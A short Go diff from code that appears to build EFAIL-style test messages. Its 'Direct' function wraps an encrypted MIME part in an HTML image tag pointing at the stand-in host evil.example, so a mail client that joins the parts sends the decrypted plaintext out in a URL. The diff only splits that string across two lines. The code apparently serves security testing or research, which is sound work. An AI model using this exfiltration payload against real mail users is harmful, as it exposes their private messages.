@@ -143,7 +143,8 @@ func Entity(der []byte) string {
 // encrypted part and closed after it, so that a reader who joins the parts sends
 // the plaintext out in a URL.
 func Direct(sealed string) map[string]string {
-	open, shut := "Content-Type: text/html\n\n<img src=\"http://evil.example/?", "Content-Type: text/html\n\n\">\n"
+	open := "Content-Type: text/html\n\n<img src=\"http://evil.example/?"
+	shut := "Content-Type: text/html\n\n\">\n"
 	join := func(kind string, parts ...string) string {
 		return "Content-Type: multipart/" + kind + "; boundary=ef\n\n--ef\n" + strings.Join(parts, "\n--ef\n") + "\n--ef--\n"
 	}
